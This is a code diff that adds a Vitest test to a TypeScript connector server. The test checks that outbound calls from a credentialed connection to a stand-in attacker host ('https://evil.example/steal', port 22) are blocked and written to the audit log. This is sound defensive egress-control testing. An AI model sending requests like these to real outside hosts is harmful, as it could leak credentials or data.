@@ -3,7 +3,9 @@ import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { connectors } from '../../connectors/index.ts'
 import { buildApp } from '../../server/app.ts'
+import { StepError } from '../../connectors/kit/errors.ts'
 import { createConnections } from '../../server/connect/service.ts'
+import { rejection } from '../connectors/support/remote.ts'
 import { createKeyring, open } from '../../server/store/secrets.ts'
 import {
   API,
@@ -169,6 +171,27 @@ test('a test that cannot reach the other system answers with a finding, not with
   expect(tried.statusCode).toBe(200)
   expect(tried.json().ok).toBe(false)
   expect(tried.json().findings.some((finding: { ok: boolean }) => !finding.ok)).toBe(true)
+})
+
+test('a login that is led to another host goes nowhere, and the audit log says so once', async () => {
+  const made = await owner.call('POST', at, {
+    ...{ connector: 'http', name: 'Shop', login: 'bearer', secrets: { token: 'the-token-of-the-shop' } },
+    settings: { baseUrl: 'https://shop.example' },
+  })
+  const { id } = made.json()
+  const connections = createConnections({ db: it.database.app.db, keys: it.keys, connectors, egressAllow: [] })
+  const { http, wire } = (await connections.open(workspace, id)).context(new AbortController().signal)
+  const steal = () => rejection(http.send({ method: 'GET', url: 'https://evil.example/steal?a=1' }))
+  expect(await steal()).toBeInstanceOf(StepError)
+  expect(await steal()).toMatchObject({ code: 'EGRESS_BLOCKED', dialled: 'no' })
+  expect(await rejection(wire.dial('evil.example', 22))).toMatchObject({ code: 'EGRESS_BLOCKED' })
+  await connections.close()
+  const { items } = (await owner.call('GET', `/workspaces/${workspace}/audit?action=credential.host_denied`)).json()
+  expect(items.map(({ detail }: { detail: object }) => detail)).toEqual([
+    { host: 'evil.example:22' },
+    { host: 'evil.example:443' },
+  ])
+  expect(items[0]).toMatchObject({ actor: { kind: 'system', id: null }, subject: { connection: id } })
 })
 
 describe('signing in by browser', () => {
